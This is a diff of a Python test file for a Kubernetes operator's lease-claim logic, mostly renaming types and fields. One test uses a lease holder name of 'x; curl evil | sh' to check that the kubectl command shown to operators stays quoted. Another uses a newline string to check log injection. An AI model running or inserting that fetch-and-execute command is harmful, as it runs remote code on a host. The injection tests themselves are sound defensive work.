@@ -12,9 +12,9 @@ from adapter.admission.cluster_claim import (
     DEADLINE_SECONDS,
     HANDED_OVER_SECONDS,
     Claimant,
-    Held,
+    ClaimWrite,
+    HeldByAnother,
     Leadership,
-    Put,
 )
 from adapter.objects.unstructured import RawDict as Raw
 from adapter.shell.kube.client import TIMEOUT_SECONDS
@@ -44,7 +44,9 @@ def seen(seconds: float) -> Claimant:
     return Claimant("7", NOW - seconds)
 
 
-def move(found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD, taken_from: str = "") -> Put | Held:
+def move(
+    found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD, taken_from: str = ""
+) -> ClaimWrite | HeldByAnother:
     return cluster_claim.decide(me or seen(0), lead, WHICH, found, taken_from, NOW, WALL)
 
 
@@ -52,7 +54,9 @@ def move(found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD,
     ("found", "me", "after"),
     [
         pytest.param(None, Claimant(), 0, id="there never was one"),
-        pytest.param(None, Claimant("", NOW, ends=NOW + 1), 0, id="it is deleted while this process holds it"),
+        pytest.param(
+            None, Claimant("", NOW, may_write_until=NOW + 1), 0, id="it is deleted while this process holds it"
+        ),
         pytest.param(None, Claimant("", NOW - ABANDONED_SECONDS), 0, id="it was deleted, and nobody wanted it"),
         pytest.param(held(""), seen(0), 0, id="nobody holds it"),
         pytest.param(held(None), seen(0), 0, id="nobody ever did"),
@@ -66,7 +70,7 @@ def move(found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD,
 )
 def test_it_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -> None:
     made = move(found, me)
-    assert isinstance(made, Put) and made.create is (found is None) and made.after == after
+    assert isinstance(made, ClaimWrite) and made.create is (found is None) and made.effective_after == after
     assert made.body["spec"]["holderIdentity"] == ME
     assert made.body["metadata"]["annotations"] == {names.LEASE_VERSION_ANNOTATION: "510"}
     if found is not None:
@@ -90,12 +94,12 @@ def test_it_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -
     ],
 )
 def test_another_ones_is_respected(found: Raw, lead: Leadership) -> None:
-    assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), Held)
+    assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), HeldByAnother)
 
 
 def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
     made = move(None, Claimant("", NOW - ABANDONED_SECONDS + 0.5))
-    assert isinstance(made, Held) and made.why == (
+    assert isinstance(made, HeldByAnother) and made.message == (
         "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, which whoever held it may not know "
         "yet; nothing is written there until nobody has made it anew for 60 s"
     )
@@ -103,15 +107,17 @@ def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
 
 def test_whom_it_is_taken_from_has_time_to_learn_of_it() -> None:
     made = move(held(OTHER), taken_from=OTHER)
-    assert isinstance(made, Put) and made.after == HANDED_OVER_SECONDS
-    assert isinstance(move(held(OTHER), taken_from=BEFORE), Held), "that very holder, so it works once"
-    me = cluster_claim.granted(cluster_claim.asked(seen(0), made, NOW), NOW + HANDED_OVER_SECONDS - 10)  # renewed since
+    assert isinstance(made, ClaimWrite) and made.effective_after == HANDED_OVER_SECONDS
+    assert isinstance(move(held(OTHER), taken_from=BEFORE), HeldByAnother), "that very holder, so it works once"
+    me = cluster_claim.with_grant(
+        cluster_claim.with_request(seen(0), made, NOW), NOW + HANDED_OVER_SECONDS - 10
+    )  # renewed since
     times = (NOW, NOW + HANDED_OVER_SECONDS - 0.1, NOW + HANDED_OVER_SECONDS)
     assert [cluster_claim.may_write(me, when) for when in times] == [False, False, True]
     renewed = move(held(ME), me)
-    assert isinstance(renewed, Put)
+    assert isinstance(renewed, ClaimWrite)
     assert not cluster_claim.may_write(
-        cluster_claim.granted(cluster_claim.asked(me, renewed, NOW + 10), NOW + 10), NOW + 10
+        cluster_claim.with_grant(cluster_claim.with_request(me, renewed, NOW + 10), NOW + 10), NOW + 10
     ), "a renewal does not shorten it"
 
 
@@ -121,8 +127,8 @@ def test_whom_it_is_taken_from_may_write_until_its_deadline_and_what_it_sent_las
     assert HANDED_OVER_SECONDS <= ABANDONED_SECONDS, "who waits for longer takes it without being told to"
 
 
-def noted(made: Put | Held) -> object:
-    assert isinstance(made, Put)
+def noted(made: ClaimWrite | HeldByAnother) -> object:
+    assert isinstance(made, ClaimWrite)
     return made.body["metadata"]["annotations"].get(names.TAKEN_ANNOTATION, "-")
 
 
@@ -135,7 +141,7 @@ def as_left(holder: str) -> Raw:
 
 def test_a_claim_says_that_it_was_taken_over_until_the_wait_is_over() -> None:
     assert noted(move(held(OTHER), taken_from=OTHER)) == "true"
-    waiting, over = Claimant("7", NOW, begins=NOW + 1), Claimant("7", NOW, begins=NOW)
+    waiting, over = Claimant("7", NOW, may_write_from=NOW + 1), Claimant("7", NOW, may_write_from=NOW)
     assert noted(move(as_left(ME), waiting)) == "true"
     assert noted(move(as_left(ME), over)) is None
     assert noted(move(held(ME), over)) == "-"
@@ -154,12 +160,12 @@ def test_who_comes_after_a_taker_waits_for_whom_it_was_taken_from(
     holder: str, since: float, after: float, said: object
 ) -> None:
     made = move(as_left(holder), seen(since))
-    assert isinstance(made, Put) and made.after == after and noted(made) == said
+    assert isinstance(made, ClaimWrite) and made.effective_after == after and noted(made) == said
 
 
 def test_whoever_may_put_it_right_reads_how() -> None:
     found = move(held(OTHER))
-    assert isinstance(found, Held) and found.why == (
+    assert isinstance(found, HeldByAnother) and found.message == (
         "it is held by rayspan-a_9 since 2026-04-01T00:00:00.000000Z, which may be of a clone of this manager, or of the manager that "
         "this one is a clone of (Lease rayspan-0123456789-east in its namespace rayspan-system); nothing is written there. It is taken "
         "over when it was not renewed for 60 s; or, if that one is to stop, say so: kubectl annotate workercluster east --overwrite "
@@ -168,23 +174,25 @@ def test_whoever_may_put_it_right_reads_how() -> None:
 
 
 def test_a_write_is_allowed_until_the_deadline() -> None:
-    me = cluster_claim.granted(seen(0), NOW)
+    me = cluster_claim.with_grant(seen(0), NOW)
     assert [cluster_claim.may_write(me, NOW + later) for later in (0, DEADLINE_SECONDS - 0.1, DEADLINE_SECONDS)] == [
         True,
         True,
         False,
     ]
-    assert not cluster_claim.may_write(cluster_claim.lost(me), NOW) and not cluster_claim.may_write(Claimant(), NOW)
+    assert not cluster_claim.may_write(cluster_claim.without_claim(me), NOW) and not cluster_claim.may_write(
+        Claimant(), NOW
+    )
     assert DEADLINE_SECONDS * 1.5 <= ABANDONED_SECONDS, "one clock may run faster than another"
 
 
 def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
-    first = cluster_claim.saw(Claimant(), held(OTHER), NOW)
-    assert (first.seen, first.since) == ("7", NOW)
-    assert cluster_claim.saw(first, held(OTHER), NOW + 50) == first
+    first = cluster_claim.with_observation(Claimant(), held(OTHER), NOW)
+    assert (first.observed_version, first.unchanged_since) == ("7", NOW)
+    assert cluster_claim.with_observation(first, held(OTHER), NOW + 50) == first
     renewed = held(OTHER)
     renewed["metadata"]["resourceVersion"] = "8"
-    assert cluster_claim.saw(first, renewed, NOW + 50).since == NOW + 50
+    assert cluster_claim.with_observation(first, renewed, NOW + 50).unchanged_since == NOW + 50
 
 
 @pytest.mark.parametrize(
@@ -199,7 +207,7 @@ def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
 )
 def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
     made = move(found, seen(0) if found else Claimant())
-    assert isinstance(made, Put)
+    assert isinstance(made, ClaimWrite)
     spec = made.body["spec"]
     assert (spec["acquireTime"], spec["leaseTransitions"], spec["renewTime"]) == (acquired, transitions, STAMP)
     if found is None:
@@ -209,17 +217,22 @@ def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, t
 
 def test_what_is_to_be_typed_holds_no_command_of_who_wrote_the_lease() -> None:
     found = move(held("x; curl evil | sh"))
-    assert isinstance(found, Held) and found.why.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
+    assert isinstance(found, HeldByAnother) and found.message.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
 
 
 def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
     found = move(held("x\nERROR all is lost" + "x" * 5000))
-    assert isinstance(found, Held) and found.holder.isprintable() and "\n" not in found.why and len(found.holder) < 1100
+    assert (
+        isinstance(found, HeldByAnother)
+        and found.holder.isprintable()
+        and "\n" not in found.message
+        and len(found.holder) < 1100
+    )
 
 
 def test_who_gives_it_back_names_nobody_and_leaves_its_notes_as_they_are() -> None:
     """As that it was taken from somebody who may write yet."""
-    assert cluster_claim.giving_back(held(ME), WALL) == {
+    assert cluster_claim.release_patch(held(ME), WALL) == {
         "metadata": {"uid": "u1", "resourceVersion": "7"},
         "spec": {"holderIdentity": "", "leaseDurationSeconds": 1, "acquireTime": STAMP, "renewTime": STAMP},
     }
